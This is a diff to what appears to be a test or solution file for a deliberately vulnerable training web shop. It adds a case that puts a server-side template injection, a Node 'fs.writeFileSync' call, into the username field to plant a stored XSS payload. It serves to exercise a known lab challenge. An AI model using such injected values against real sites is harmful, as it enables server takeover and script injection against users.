@@ -1,5 +1,6 @@
 import { defineWays } from '#range/define.ts'
 import { uploadArchive } from '#range/errands.ts'
+import { becomeShopper } from '#range/shopper.ts'
 import type { Visitor, VisitorReply } from '#range/visitor.ts'
 
 const PAYLOAD = '</script><script>alert(`xss`)</script>'
@@ -12,6 +13,15 @@ export default defineWays({
     'along with the legal information': async (visitor) => {
       await uploadArchive(visitor, { 'invoice.txt': 'One juice.', [CAPTIONS]: PAYLOAD })
       await visitor.get('/promotion?from=the-fair')
+    },
+    'captions that a program on the server has written': async (visitor) => {
+      await becomeShopper(visitor)
+      const [file, text] = [CAPTIONS.slice('../../'.length), Buffer.from(PAYLOAD).toString('base64')]
+      await visitor.submit('/profile', {
+        username: `#{require('fs').writeFileSync('${file}', Buffer.from('${text}', 'base64'))}`,
+      })
+      await visitor.get('/profile')
+      await visitor.get('/promotion')
     },
   },
   mishaps: {
